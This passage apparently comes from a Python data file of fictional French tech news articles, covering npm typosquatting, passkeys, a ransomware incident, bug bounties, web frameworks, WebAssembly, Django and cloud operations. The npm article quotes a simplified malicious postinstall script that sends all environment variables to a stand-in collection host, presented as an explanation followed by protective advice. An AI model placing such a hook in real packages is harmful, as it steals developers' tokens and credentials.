Aucun cas d'exploitation n'a été signalé à ce jour, mais une preuve de concept circule depuis la publication de l'avis de sécurité. Le projet, maintenu par trois bénévoles, en profite pour lancer un appel aux dons afin de financer un audit complet de son code. L'avis détaillé est disponible sur [le site du projet](https://zlibre.example.org/avis/2-8-4).""",
        "sources": [
            ("Projet Zlibre", "https://zlibre.example.org/avis/2-8-4"),
            ("Veille Sécu", "https://veillesecu.example.net/zlibre-rce"),
        ],
        "questions": [
            "Savez-vous combien de copies embarquées de bibliothèques tournent dans vos projets ?",
            "Comment financer durablement la maintenance des briques libres critiques ?",
        ],
        "days_ago": 2,
        "related": [
            "paquets-npm-malveillants-typosquatting",
            "bug-bounty-bilan-annuel-plateforme-traqueurs",
        ],
        "author": "redaction_marc",
    },
    {
        "slug": "paquets-npm-malveillants-typosquatting",
        "title": "Typosquatting : une quarantaine de paquets npm malveillants dérobaient les variables d'environnement des développeurs",
        "category": "securite",
        "tags": ["npm", "javascript", "sécurité"],
        "lead": "Des chercheurs de la société Sentinelle Logicielle ont identifié 41 paquets npm imitant des bibliothèques populaires. Installés plusieurs milliers de fois, ils exfiltraient discrètement les jetons d'accès présents sur les machines des développeurs.",
        "body": """Une faute de frappe peut coûter cher. La société de sécurité **Sentinelle Logicielle** a publié une analyse de 41 paquets malveillants publiés sur le registre npm au cours des deux derniers mois. Leurs noms ressemblaient à s'y méprendre à ceux de bibliothèques populaires, à une lettre près ou avec un tiret en plus.

Le fonctionnement était toujours le même : un script exécuté automatiquement lors de l'installation collectait les variables d'environnement de la machine, puis les envoyait vers un serveur distant. Or ces variables contiennent souvent des jetons d'accès à des services cloud, à des dépôts de code ou à des registres de paquets. Voici, simplifié, le code retrouvé dans plusieurs d'entre eux :

```javascript
// Extrait simplifié du script "postinstall" malveillant
const https = require("https");
const donnees = JSON.stringify(process.env);
const req = https.request({ host: "collecte.example.net", method: "POST" });
req.write(donnees);
req.end();
```

Au total, les paquets ont été téléchargés environ 7 500 fois avant leur suppression par les administrateurs du registre. Une partie de ces téléchargements provient probablement de robots, mais les chercheurs estiment que plusieurs centaines de postes de développeurs et de serveurs d'intégration continue ont été touchés.

## Comment se protéger

"Le problème, ce n'est pas npm en soi, c'est l'exécution automatique de code au moment de l'installation", rappelle Clément Aubry, analyste chez Sentinelle Logicielle. Plusieurs mesures simples réduisent le risque :

- désactiver les scripts d'installation par défaut avec `npm config set ignore-scripts true`, et les autoriser au cas par cas ;
- utiliser un fichier de verrouillage et l'installation stricte `npm ci` dans l'intégration continue ;
- limiter les droits des jetons présents dans l'environnement de build ;
- vérifier le nom exact d'un paquet avant de l'ajouter, surtout lorsqu'il est copié depuis un forum.

Les développeurs qui auraient installé l'un des paquets listés sont invités à révoquer immédiatement l'ensemble des jetons présents sur la machine concernée. La liste complète des noms et des empreintes est publiée sur [le blog de Sentinelle Logicielle](https://sentinelle.example.com/analyses/typosquatting-npm). Les chercheurs notent que le phénomène touche également d'autres registres, et que plusieurs paquets Python au comportement similaire ont été signalés ces dernières semaines.""",
        "sources": [
            ("Sentinelle Logicielle", "https://sentinelle.example.com/analyses/typosquatting-npm"),
        ],
        "questions": [
            "Désactivez-vous les scripts d'installation de vos dépendances ?",
            "Vérifiez-vous systématiquement l'origine d'un paquet avant de l'installer ?",
        ],
        "days_ago": 23,
        "related": [
            "faille-critique-bibliotheque-compression-zlibre",
            "revue-de-code-automatisee-failles-securite",
        ],
        "author": "redaction_lea",
    },
    {
        "slug": "passkeys-adoption-sites-francais",
        "title": "Clés d'accès : les passkeys séduisent les utilisateurs mais restent rares sur les sites marchands français",
        "category": "securite",
        "tags": ["authentification", "passkeys", "sécurité"],
        "lead": "Une étude de l'association Identité Numérique Sereine montre que seuls 9 % des grands sites marchands français proposent une connexion par clé d'accès. Là où elle existe, les utilisateurs l'adoptent pourtant rapidement.",
        "body": """Annoncées depuis plusieurs années comme les remplaçantes des mots de passe, les **clés d'accès** (ou passkeys) peinent encore à s'imposer. L'association **Identité Numérique Sereine** a passé en revue les 200 sites marchands français les plus fréquentés. Seuls 18 d'entre eux permettent de se connecter avec une clé d'accès, et la moitié de ceux-là réservent l'option à leur application mobile.

Le constat est d'autant plus frappant que les utilisateurs semblent convaincus. Chez les quelques marchands qui ont partagé leurs chiffres avec l'association, 35 % des clients actifs ont créé une clé d'accès dans les six mois suivant son lancement. Les taux d'abandon à l'étape de connexion ont baissé, tout comme les demandes de réinitialisation de mot de passe adressées au service client.

Les responsables techniques interrogés avancent plusieurs raisons. La première est la complexité perçue du sujet : les spécifications sont denses, et la gestion des cas particuliers, comme la perte d'un téléphone ou le partage d'un compte au sein d'un foyer, inquiète les équipes produit. "Nous avons peur de bloquer des clients et de voir exploser les appels au support", résume la responsable sécurité d'un site d'électroménager.

La seconde raison tient à la dette technique. De nombreux sites reposent sur des systèmes d'authentification anciens, parfois développés en interne, qu'il faudrait réécrire en partie. Enfin, plusieurs enseignes attendent que leurs prestataires de solutions d'identité intègrent la fonctionnalité clé en main.

Pour accélérer le mouvement, l'association publie un guide pratique à destination des développeurs. Elle recommande notamment :

- de proposer la clé d'accès comme option supplémentaire, sans supprimer immédiatement le mot de passe ;
- de suggérer sa création juste après une connexion réussie, moment où l'utilisateur est le plus réceptif ;
- de prévoir un parcours de récupération clair et testé en conditions réelles ;
- de s'appuyer sur des bibliothèques éprouvées plutôt que de réimplémenter le protocole.

Selon Yannick Perrot, président de l'association, "la technologie est mûre, ce qui manque, c'est la volonté de s'y mettre". Le guide est disponible gratuitement sur [le site de l'association](https://identite-sereine.example.org/guide-passkeys).""",
        "sources": [
            ("Identité Numérique Sereine", "https://identite-sereine.example.org/guide-passkeys"),
            ("Commerce Connecté", ""),
        ],
        "questions": [
            "Avez-vous déjà implémenté les clés d'accès sur un site en production ?",
            "Les utilisez-vous vous-même au quotidien ?",
            "Faut-il, à terme, supprimer complètement les mots de passe ?",
        ],
        "days_ago": 52,
        "related": [],
        "author": "redaction_ines",
    },
    {
        "slug": "rancongiciel-communaute-communes-val-brumeux",
        "title": "Rançongiciel : la communauté de communes du Val-Brumeux paralysée pendant trois semaines, les leçons d'un incident",
        "category": "securite",
        "tags": ["rançongiciel", "sécurité", "sauvegarde"],
        "lead": "Victime d'une attaque par rançongiciel, la communauté de communes du Val-Brumeux a dû fonctionner au papier pendant près d'un mois. Son rapport d'incident, rendu public, détaille les erreurs commises et les mesures prises depuis.",
        "body": """Un lundi matin, les agents de la **communauté de communes du Val-Brumeux** ont découvert des écrans affichant une demande de rançon. En quelques heures, la quasi-totalité des serveurs de la collectivité, qui gère l'eau, les déchets et l'état civil pour 38 communes, étaient chiffrés. Il a fallu trois semaines pour rétablir les services essentiels, et plusieurs mois pour revenir à la normale.

Fait rare, la collectivité a choisi de publier un rapport d'incident détaillé, rédigé avec le prestataire qui l'a accompagnée. Objectif affiché : permettre aux autres structures de même taille d'éviter les mêmes erreurs.

Le scénario de l'attaque est malheureusement classique. Les attaquants ont utilisé les identifiants d'un prestataire, dérobés quelques semaines plus tôt, pour se connecter à un accès distant qui n'exigeait pas de second facteur. Ils ont ensuite exploré le réseau pendant onze jours sans être détectés, avant de désactiver les sauvegardes et de déclencher le chiffrement en pleine nuit.

Le rapport pointe plusieurs faiblesses :

- un accès distant exposé sans **authentification forte** ;
- des sauvegardes accessibles depuis le réseau principal, avec les mêmes identifiants d'administration ;
- l'absence de journalisation centralisée, qui aurait pu révéler les connexions suspectes ;
- un plan de continuité jamais testé, dont la version imprimée était introuvable.

La collectivité n'a pas payé la rançon. Elle a pu reconstruire une partie de ses données grâce à une sauvegarde hors ligne datant de six semaines, conservée presque par hasard sur des bandes dans un placard de la mairie principale. Les données produites entre-temps ont dû être ressaisies à la main à partir de documents papier.

"Nous pensions que nous étions trop petits pour intéresser qui que ce soit. C'était une erreur", reconnaît Gilles Marchetti, directeur général des services. Depuis l'incident, la collectivité a recruté un responsable de la sécurité des systèmes d'information à temps partiel, mutualisé avec deux intercommunalités voisines. Les sauvegardes sont désormais isolées et testées chaque mois, et tous les accès distants exigent un second facteur.

Le coût total de l'incident est estimé à 1,4 million d'euros, soit près de trois fois le budget informatique annuel de la collectivité. Le rapport complet peut être consulté sur [le site de l'intercommunalité](https://val-brumeux.example.org/rapport-incident).""",
        "sources": [
            (
                "Communauté de communes du Val-Brumeux",
                "https://val-brumeux.example.org/rapport-incident",
            ),
            ("Territoires Numériques", "https://territoires-num.example.com/val-brumeux"),
        ],
        "questions": [
            "Vos sauvegardes sont-elles réellement isolées de votre réseau principal ?",
            "Avez-vous déjà testé votre plan de continuité en conditions réelles ?",
        ],
        "days_ago": 74,
        "related": [
            "panne-hebergeur-nuagerie-neuf-heures",
            "faille-critique-bibliotheque-compression-zlibre",
        ],
        "author": "redaction_marc",
    },
    {
        "slug": "bug-bounty-bilan-annuel-plateforme-traqueurs",
        "title": "Bug bounty : la plateforme Traqueurs a versé 3,2 millions d'euros de primes aux chercheurs en sécurité cette année",
        "category": "securite",
        "tags": ["bug bounty", "sécurité", "emploi"],
        "lead": "La plateforme française de chasse aux vulnérabilités Traqueurs publie son bilan annuel. Le montant des primes progresse, tout comme le nombre de programmes ouverts par des collectivités et des établissements de santé.",
        "body": """Le modèle de la prime aux bogues continue de se développer en France. **Traqueurs**, une plateforme qui met en relation des organisations et des chercheurs en sécurité indépendants, a publié son bilan annuel. Elle annonce avoir versé 3,2 millions d'euros de récompenses, contre 2,3 millions l'année précédente, pour un peu plus de 5 600 vulnérabilités validées.

La plateforme compte désormais 410 programmes actifs. Si les entreprises du numérique et de la finance restent majoritaires, la progression la plus nette concerne le secteur public : une quarantaine de collectivités, d'hôpitaux et d'établissements d'enseignement supérieur ont ouvert un programme cette année. "Les attaques récentes contre des collectivités ont fait prendre conscience qu'il valait mieux payer quelqu'un pour trouver une faille avant les criminels", note Sarah Benhamou, cofondatrice de Traqueurs.

## Les failles les plus fréquentes

Le classement des vulnérabilités signalées évolue peu d'une année sur l'autre. Le podium reste occupé par :

1. les défauts de contrôle d'accès, qui permettent de consulter ou modifier les données d'un autre utilisateur ;
2. les injections de scripts dans les pages web ;
3. les fuites d'informations sensibles dans des interfaces de programmation mal protégées.

Les vulnérabilités critiques ne représentent que 6 % des rapports, mais près de la moitié des montants versés. La prime la plus élevée de l'année, 45 000 euros, a récompensé la découverte d'une faille permettant de prendre le contrôle de comptes bancaires professionnels.

## Une communauté qui se professionnalise

La plateforme revendique 14 000 chercheurs inscrits, dont environ 900 ont reçu au moins une prime dans l'année. Pour une centaine d'entre eux, l'activité constitue désormais le revenu principal. Le profil type reste celui d'un homme de moins de trente ans, mais la part des femmes progresse légèrement, à 11 %.

Traqueurs reconnaît toutefois des tensions avec une partie de sa communauté, qui dénonce des délais de traitement trop longs et des rapports parfois classés en doublon sans justification. La plateforme promet un délai maximal de dix jours ouvrés pour la première réponse et la création d'un médiateur indépendant. Le bilan complet est disponible sur [le site de Traqueurs](https://traqueurs.example.com/bilan-annuel).""",
        "sources": [
            ("Traqueurs", "https://traqueurs.example.com/bilan-annuel"),
        ],
        "questions": [
            "Avez-vous déjà participé à un programme de bug bounty ?",
            "Votre entreprise devrait-elle ouvrir un programme de ce type ?",
        ],
        "days_ago": 130,
        "related": [],
        "author": "redaction_lea",
    },
    # ------------------------------------------------------------------
    # Développement web
    # ------------------------------------------------------------------
    {
        "slug": "framework-vireo-js-version-3",
        "title": "Vireo.js 3.0 abandonne le DOM virtuel et mise sur la compilation fine des composants",
        "category": "web",
        "tags": ["javascript", "frontend", "framework"],
        "lead": "La troisième version majeure du framework Vireo.js remplace son DOM virtuel par un compilateur qui génère des mises à jour ciblées. Les performances progressent nettement, mais la migration des applications existantes demandera des efforts.",
        "body": """C'est une refonte en profondeur que propose l'équipe de **Vireo.js**, un framework d'interfaces web apprécié pour sa légèreté. La version 3.0, publiée après dix-huit mois de développement, abandonne le DOM virtuel qui faisait sa particularité depuis l'origine. À la place, un compilateur analyse chaque composant et génère le code minimal nécessaire pour mettre à jour la page lorsque les données changent.

Les chiffres publiés par l'équipe sont prometteurs : le poids du code envoyé au navigateur baisse de 40 % en moyenne sur les applications de démonstration, et les mises à jour de grandes listes sont jusqu'à cinq fois plus rapides. "Le DOM virtuel était une bonne idée il y a dix ans. Aujourd'hui, le compilateur en sait suffisamment pour s'en passer", explique Maxime Delorme, mainteneur principal du projet.

La syntaxe des composants évolue peu, mais la gestion de l'état repose désormais sur des **signaux** :

```javascript
import { composant, signal, derive } from "vireo";

export default composant(() => {
  const quantite = signal(1);
  const total = derive(() => quantite.valeur * 12.5);

  return (
    <div>
      <button onClick={() => quantite.valeur++}>Ajouter</button>
      <p>Total : {total.valeur} €</p>
    </div>
  );
});
```

Les changements ne sont pas tous transparents. Les composants qui manipulaient directement le DOM virtuel, ou qui reposaient sur certains cycles de vie supprimés, devront être réécrits. L'équipe fournit un outil de migration automatique, capable selon elle de traiter environ 80 % des cas courants, et maintiendra la branche 2.x avec des correctifs de sécurité pendant dix-huit mois.

Parmi les autres nouveautés :

- un rendu côté serveur en flux continu, activé par défaut ;
- un système de routage intégré, qui remplace l'extension officielle ;
- des messages d'erreur de compilation accompagnés de liens vers la documentation.

Du côté de la communauté, l'accueil est partagé. Beaucoup saluent le gain de performance, d'autres regrettent une nouvelle rupture dans un écosystème déjà réputé pour son instabilité. Sur les forums, plusieurs développeurs estiment que la convergence des frameworks vers les mêmes concepts rend la différenciation de plus en plus difficile. Les notes de version complètes sont disponibles sur [le site officiel](https://vireojs.example.org/blog/version-3).""",
        "sources": [
            ("Blog de Vireo.js", "https://vireojs.example.org/blog/version-3"),
            ("Front & Back", "https://frontback.example.com/vireo-3"),
        ],
        "questions": [
            "La fin du DOM virtuel est-elle une bonne nouvelle pour l'écosystème ?",
            "Combien de temps êtes-vous prêt à consacrer à la migration d'un framework ?",
            "Les signaux sont-ils devenus votre modèle de gestion d'état préféré ?",
        ],
        "days_ago": 8,
        "related": ["retour-du-rendu-serveur-htmx-agences"],
        "author": "redaction_ines",
    },
    {
        "slug": "retour-du-rendu-serveur-htmx-agences",
        "title": "Rendu côté serveur : de plus en plus d'agences web délaissent les applications monopages au profit de htmx",
        "category": "web",
        "tags": ["htmx", "html", "frontend"],
        "lead": "Plusieurs agences web françaises témoignent d'un retour vers le rendu côté serveur, enrichi de quelques attributs HTML. Elles y voient un moyen de réduire les coûts de développement, sans sacrifier l'interactivité.",
        "body": """Pendant une décennie, l'application monopage s'est imposée comme la norme pour tout projet web un peu ambitieux. Un mouvement inverse semble s'amorcer. L'agence nantaise **Pixelune** explique avoir abandonné les frameworks JavaScript lourds pour la majorité de ses nouveaux projets, au profit d'un rendu côté serveur enrichi avec htmx.

Le principe est simple : plutôt que d'envoyer des données au format JSON à une application JavaScript chargée de construire l'interface, le serveur renvoie directement des fragments de HTML, que la bibliothèque insère dans la page. Quelques attributs suffisent pour rendre un formulaire ou une liste dynamique :

```html
<input type="search" name="q"
       hx-get="/recherche"
       hx-trigger="keyup changed delay:300ms"
       hx-target="#resultats">
<ul id="resultats"></ul>
```

"Sur un projet type de back-office, nous avons réduit la quantité de code d'environ un tiers et supprimé toute une couche de duplication entre le client et le serveur", indique Aurélie Santoni, directrice technique de l'agence. Les validations de formulaires, la gestion des droits et le formatage des données ne sont plus écrits qu'une seule fois.

## Pas une solution universelle

Les agences interrogées insistent sur les limites de l'approche. Pour des interfaces très riches, comme un éditeur graphique, un tableur collaboratif ou une application qui doit fonctionner hors ligne, un framework côté client reste pertinent. L'approche demande aussi une bonne discipline dans l'organisation des gabarits côté serveur, sous peine de voir se multiplier les fragments difficiles à maintenir.

Le retour au serveur présente toutefois plusieurs avantages mis en avant par les témoins :

- des pages plus légères, appréciées sur les connexions mobiles lentes ;
- une meilleure accessibilité par défaut, le HTML restant fonctionnel sans JavaScript ;
- une équipe plus polyvalente, qui n'a plus besoin de spécialistes du front-end pour chaque écran.

Certains y voient une simple mode, vouée à refluer. D'autres parlent d'un rééquilibrage bienvenu, après des années où la complexité côté client s'est imposée sans toujours se justifier. Pixelune, de son côté, assume un choix au cas par cas et publie ses critères de décision sur [son blog](https://pixelune.example.com/blog/choisir-son-rendu).""",
        "sources": [
            ("Blog de Pixelune", "https://pixelune.example.com/blog/choisir-son-rendu"),
        ],
        "questions": [
            "Avez-vous abandonné une application monopage au profit du rendu serveur ?",
            "Quels critères vous font choisir un framework côté client ?",
        ],
        "days_ago": 40,
        "related": [
            "framework-vireo-js-version-3",
            "mutuelle-migre-extranet-vers-django",
            "audit-accessibilite-sites-publics-conformite",
        ],
        "author": "redaction_marc",
    },
    {
        "slug": "audit-accessibilite-sites-publics-conformite",
        "title": "Accessibilité : moins d'un site public sur cinq atteint le niveau de conformité attendu, selon un audit indépendant",
        "category": "web",
        "tags": ["accessibilité", "web", "service public"],
        "lead": "Le collectif Web Pour Tous a audité 500 sites de services publics et de collectivités. Seuls 17 % respectent le niveau de conformité requis, et les démarches en ligne les plus utilisées figurent parmi les plus mauvais élèves.",
        "body": """L'obligation légale existe depuis des années, mais son application reste très partielle. Le collectif **Web Pour Tous**, qui regroupe des experts en accessibilité numérique, a passé au crible 500 sites publics : ministères, collectivités, hôpitaux, organismes sociaux. Verdict : seuls 17 % d'entre eux atteignent le niveau de conformité attendu, et 42 % ne publient même pas de déclaration d'accessibilité.

Les auditeurs ont combiné tests automatisés et vérifications manuelles, réalisées notamment par des utilisateurs de lecteurs d'écran et de logiciels d'agrandissement. Les problèmes relevés sont rarement spectaculaires, mais leur accumulation rend certaines démarches impossibles à accomplir sans aide.

## Les erreurs les plus fréquentes

Le rapport dresse la liste des défauts rencontrés le plus souvent :

- des images porteuses d'information sans texte alternatif ;
- des formulaires dont les champs ne sont pas associés à une étiquette ;
- des contrastes de couleurs insuffisants, en particulier sur les boutons ;
- des composants interactifs impossibles à utiliser au clavier ;
- des documents PDF scannés, illisibles par les technologies d'assistance.

"Dans la plupart des cas, corriger ces problèmes ne demande pas de compétences rares. Il faut simplement y penser dès la conception", estime Florence Dumas, coordinatrice du collectif. Elle regrette que l'accessibilité soit encore trop souvent traitée comme une vérification de dernière minute, juste avant la mise en ligne.

## Des démarches essentielles en difficulté

Le constat est plus préoccupant pour les services les plus utilisés. Parmi les vingt démarches en ligne les plus fréquentées, comme les demandes d'aides sociales ou les inscriptions scolaires, quatorze présentent au moins un blocage majeur pour une personne aveugle. Le collectif rappelle que ces services sont parfois devenus le seul moyen d'accomplir la démarche, les guichets physiques ayant fermé.

Le rapport formule plusieurs recommandations à destination des administrations et des prestataires : intégrer des critères d'accessibilité dans les marchés publics, former systématiquement les équipes de développement et de conception, et associer des utilisateurs en situation de handicap aux tests. Le collectif propose également une grille d'auto-évaluation simplifiée, téléchargeable sur [son site](https://webpourtous.example.org/audit-services-publics).""",
        "sources": [
            ("Collectif Web Pour Tous", "https://webpourtous.example.org/audit-services-publics"),
            ("Le Fil Public", ""),
        ],
        "questions": [
            "L'accessibilité fait-elle partie de votre définition de « terminé » ?",
            "Avez-vous déjà testé votre site avec un lecteur d'écran ?",
        ],
        "days_ago": 66,
        "related": [],
        "author": "redaction_lea",
    },
    {
        "slug": "webassembly-editeur-photo-navigateur",
        "title": "WebAssembly : l'éditeur de photos en ligne Clairobscur porte son moteur de rendu dans le navigateur",
        "category": "web",
        "tags": ["webassembly", "rust", "performance"],
        "lead": "L'éditeur de photos Clairobscur exécute désormais l'intégralité de ses traitements d'image dans le navigateur grâce à WebAssembly. Ses serveurs de calcul ont été presque entièrement éteints.",
        "body": """Jusqu'ici, chaque retouche effectuée sur **Clairobscur**, un éditeur de photos en ligne prisé des photographes amateurs, partait vers un serveur distant, qui appliquait le traitement et renvoyait le résultat. Une architecture coûteuse et sensible à la qualité de la connexion. L'entreprise vient d'achever la migration de son moteur de rendu, écrit en Rust, vers WebAssembly : tous les traitements s'exécutent désormais directement sur la machine de l'utilisateur.

Le moteur, qui gère les ajustements d'exposition, les courbes, la réduction du bruit et les masques, a été compilé sans réécriture majeure. L'équipe a surtout dû adapter la gestion de la mémoire et exposer une interface réduite au code JavaScript de l'application :

```rust
use wasm_bindgen::prelude::*;

#[wasm_bindgen]
pub fn ajuster_exposition(pixels: &mut [u8], ev: f32) {
    let facteur = 2f32.powf(ev);
    for px in pixels.chunks_exact_mut(4) {
        for canal in &mut px[..3] {
            *canal = (*canal as f32 * facteur).min(255.0) as u8;
        }
    }
}
```

Pour les utilisateurs, la différence est immédiate : l'aperçu des réglages s'affiche en temps réel, sans aller-retour réseau. Les traitements les plus lourds, comme la réduction du bruit sur une image de 40 mégapixels, exploitent plusieurs cœurs du processeur grâce aux fils d'exécution WebAssembly. "Sur un ordinateur portable récent, nous sommes plus rapides que notre ancienne infrastructure", affirme Mathilde Garnier, responsable de l'ingénierie.

Côté finances, la facture d'hébergement a été divisée par six. Les photos ne quittent plus l'appareil de l'utilisateur, sauf s'il choisit de les sauvegarder en ligne, ce qui simplifie aussi la conformité aux règles de protection des données.

Le portage n'a pas été sans difficulté. Le temps de chargement initial a augmenté, le module compilé pesant 4,2 Mo. L'équipe a mis en place un chargement progressif et une mise en cache agressive pour limiter l'impact. Les appareils d'entrée de gamme, notamment certains téléphones anciens, peinent sur les traitements les plus lourds : un mode de secours sur serveur a donc été conservé pour eux.

L'entreprise prévoit de publier une partie de son moteur sous licence libre, ainsi qu'un [retour d'expérience technique](https://clairobscur.example.com/blog/wasm) détaillant les optimisations réalisées.""",
        "sources": [
            ("Blog de Clairobscur", "https://clairobscur.example.com/blog/wasm"),
            ("Front & Back", "https://frontback.example.com/clairobscur-wasm"),
        ],
        "questions": [
            "Avez-vous déjà utilisé WebAssembly dans un projet en production ?",
            "Déporter le calcul chez l'utilisateur est-il une bonne pratique ou un transfert de coûts ?",
        ],
        "days_ago": 110,
        "related": [
            "fintech-lyonnaise-reecrit-moteur-paiement-rust",
            "framework-vireo-js-version-3",
        ],
        "author": "redaction_ines",
    },
    {
        "slug": "mutuelle-migre-extranet-vers-django",
        "title": "Une mutuelle bretonne migre son extranet adhérents vers Django et ouvre le code de ses outils internes",
        "category": "web",
        "tags": ["django", "python", "open source"],
        "lead": "La Mutuelle des Îles et Côtes a remplacé son extranet vieillissant par une application Django développée en interne. Elle publie sous licence libre plusieurs modules, dont un composant de signature électronique.",
        "body": """Son ancien extranet datait d'une quinzaine d'années et reposait sur un progiciel dont l'éditeur avait cessé le support. La **Mutuelle des Îles et Côtes**, qui compte 120 000 adhérents dans l'ouest de la France, a fait le choix de reconstruire son espace en ligne avec une petite équipe interne de cinq développeurs, en s'appuyant sur Django.

Le projet a duré quatorze mois. L'équipe explique avoir choisi ce framework pour sa maturité, son interface d'administration intégrée et la facilité à recruter des développeurs Python dans la région. "Nous voulions une technologie ennuyeuse, au bon sens du terme : stable, documentée, et qui sera encore là dans dix ans", résume Erwan Le Goff, responsable des études informatiques.

## Une architecture volontairement simple

L'application repose sur un rendu côté serveur classique, une base PostgreSQL et une file de tâches pour les traitements longs, comme la génération des attestations. Les modèles de données reprennent le vocabulaire métier de la mutuelle, ce qui facilite les échanges avec les gestionnaires :

```python
from django.db import models


class Remboursement(models.Model):
    adherent = models.ForeignKey("Adherent", on_delete=models.PROTECT)
    date_soins = models.DateField()
    montant_rembourse = models.DecimalField(max_digits=10, decimal_places=2)
    statut = models.CharField(max_length=20, default="en_cours")

    class Meta:
        ordering = ["-date_soins"]
```

Depuis la mise en ligne, le nombre de connexions mensuelles a progressé de 45 %, et les appels au service client concernant le suivi des remboursements ont baissé d'un quart. L'accessibilité a fait l'objet d'une attention particulière, une part importante des adhérents ayant plus de 65 ans.

## Du code rendu à la communauté

La mutuelle a décidé de publier sous licence libre plusieurs briques développées pendant le projet : un module de signature électronique de documents, un composant de validation des numéros de sécurité sociale et un ensemble de gabarits accessibles. Une démarche encore rare dans le secteur de l'assurance.

"Nous utilisons énormément de logiciels libres. Il était normal de contribuer à notre tour", explique la direction des systèmes d'information, qui encourage désormais ses développeurs à consacrer une demi-journée par mois aux projets libres dont dépend la mutuelle. Le code est disponible sur [la forge de la mutuelle](https://forge.mutuelle-ic.example.org).""",
        "sources": [
            ("Mutuelle des Îles et Côtes", "https://forge.mutuelle-ic.example.org"),
            ("Bretagne Numérique", "https://bzh-numerique.example.com/mutuelle-django"),
        ],
        "questions": [
            'Choisir une technologie "ennuyeuse" est-il un bon critère pour un projet long terme ?',
            "Votre employeur publie-t-il du code sous licence libre ?",
            "Vous accorde-t-il du temps pour contribuer aux projets dont il dépend ?",
        ],
        "days_ago": 150,
        "related": [
            "typage-statique-python-progresse-entreprises",
            "retour-du-rendu-serveur-htmx-agences",
        ],
        "author": "redaction_marc",
    },
    # ------------------------------------------------------------------
    # Systèmes et DevOps
    # ------------------------------------------------------------------
    {
        "slug": "rapatriement-cloud-kubernetes-economies",
        "title": "Rapatriement du cloud : le site d'annonces Brocantin quitte le cloud public et revendique 40 % d'économies",
        "category": "systemes",
        "tags": ["cloud", "kubernetes", "infrastructure"],
        "lead": "Le site de petites annonces Brocantin a déplacé l'ensemble de son infrastructure du cloud public vers des serveurs loués en centre de données. L'entreprise affirme réduire sa facture de 40 %, au prix d'une charge d'exploitation accrue.",
        "body": """Le mouvement reste minoritaire, mais il fait parler de lui. **Brocantin**, un site de petites annonces d'objets d'occasion qui revendique trois millions de visiteurs mensuels, a achevé la migration de son infrastructure hors du cloud public. Ses services tournent désormais sur une trentaine de serveurs physiques loués dans deux centres de données de la région parisienne.

La décision a été prise après une hausse continue de la facture cloud, qui représentait à la fin près de 18 % du chiffre d'affaires de l'entreprise. "Nous avions un trafic très prévisible. Nous payions pour une élasticité dont nous ne nous servions presque jamais", explique Karim Haddad, responsable de l'infrastructure.

## Kubernetes comme couche commune

Pour faciliter la transition, l'équipe avait d'abord conteneurisé l'ensemble de ses applications et les avait déployées sur un service Kubernetes managé. Une fois ce travail accompli, il a suffi de monter un cluster équivalent sur les nouveaux serveurs et de basculer les services un par un. Les manifestes de déploiement sont restés quasiment identiques :

```bash
# Bascule progressive d'un service vers le nouveau cluster
kubectl --context=dc-paris apply -f services/annonces/
kubectl --context=dc-paris rollout status deploy/annonces-api
# Réduction du trafic sur l'ancien cluster
kubectl --context=cloud scale deploy/annonces-api --replicas=1
```

## Les coûts cachés

L'entreprise ne prétend pas que l'opération soit gratuite. Elle a recruté deux ingénieurs d'exploitation supplémentaires et a dû mettre en place elle-même des services auparavant fournis clés en main :

- le stockage d'objets pour les photos des annonces ;
- les bases de données répliquées et leurs sauvegardes ;
- la supervision et l'alerte ;
- la gestion des certificats et de l'équilibrage de charge.

Malgré ces dépenses, l'économie nette est estimée à 40 % sur un an, soit environ 600 000 euros. Brocantin reconnaît que le calcul serait différent pour une entreprise au trafic très variable ou en forte croissance, et conserve un compte chez un fournisseur de cloud pour absorber d'éventuels pics.

Plusieurs spécialistes rappellent que ces retours d'expérience doivent être lus avec prudence : chaque situation est particulière, et l'effort humain est souvent sous-estimé. D'autres y voient le signe d'une maturité nouvelle, où le choix de l'hébergement redevient une décision économique plutôt qu'un réflexe. Le détail des chiffres est publié sur [le blog technique de Brocantin](https://tech.brocantin.example.com/sortie-du-cloud).""",
        "sources": [
            ("Blog technique de Brocantin", "https://tech.brocantin.example.com/sortie-du-cloud"),
            ("Infra Hebdo", "https://infrahebdo.example.net/brocantin"),
        ],
        "questions": [
            "Le rapatriement du cloud aurait-il du sens pour votre entreprise ?",
            "Les coûts humains de l'auto-hébergement sont-ils sous-estimés dans ce type de calcul ?",
        ],
        "days_ago": 14,
        "related": [
            "panne-hebergeur-nuagerie-neuf-heures",
            "rapport-consommation-energie-ia-datacenters",
        ],
        "author": "redaction_lea",
    },
    {
        "slug": "panne-hebergeur-nuagerie-neuf-heures",
        "title": "Panne géante chez l'hébergeur Nuagerie : neuf heures d'interruption et un post-mortem qui pointe une erreur de configuration",
        "category": "systemes",
        "tags": ["panne", "hébergement", "devops"],
        "lead": "Des milliers de sites et d'applications hébergés chez Nuagerie sont restés inaccessibles pendant neuf heures. Le rapport publié par l'hébergeur met en cause une modification de configuration réseau déployée trop largement.",
        "body": """Pendant une bonne partie d'une journée de semaine, des milliers de sites de commerce en ligne, d'applications métier et de services publics locaux ont affiché des pages d'erreur. En cause, une panne chez **Nuagerie**, hébergeur français qui revendique plus de 80 000 clients professionnels. Une semaine plus tard, l'entreprise a publié un rapport d'incident détaillé.

Tout est parti d'une modification de la configuration des routeurs, destinée à améliorer la répartition du trafic entre deux centres de données. Testée sur un petit groupe d'équipements, elle devait être déployée progressivement. Une erreur dans le script d'automatisation a provoqué son application simultanée à l'ensemble du parc. La nouvelle configuration contenait une règle incorrecte, qui a isolé les serveurs du reste d'internet.

## Un retour en arrière compliqué

Le plus long n'a pas été d'identifier le problème, repéré en une quarantaine de minutes, mais de le corriger. Les outils d'administration à distance passaient eux-mêmes par le réseau devenu inaccessible. Des techniciens ont dû se rendre physiquement dans les centres de données pour rétablir la configuration précédente, équipement par équipement. "Nous avions prévu de nombreux scénarios, mais pas celui où nos propres outils de secours dépendaient de ce qui venait de tomber", reconnaît Delphine Aubert, directrice des opérations.

Le rapport liste les mesures prises depuis :

- un réseau d'administration entièrement séparé du réseau de production ;
- un déploiement des configurations réseau par vagues, avec arrêt automatique en cas d'anomalie ;
- une double validation humaine pour toute modification touchant plus de 10 % des équipements ;
- des exercices de panne réalisés chaque trimestre.

## Des clients partagés

Du côté des clients, les réactions oscillent entre colère et compréhension. Plusieurs commerçants en ligne évoquent un manque à gagner important et réclament des compensations supérieures à celles prévues par les contrats. D'autres saluent la transparence du rapport, jugée exemplaire, et rappellent qu'aucun hébergeur n'est à l'abri d'une panne de cette ampleur.

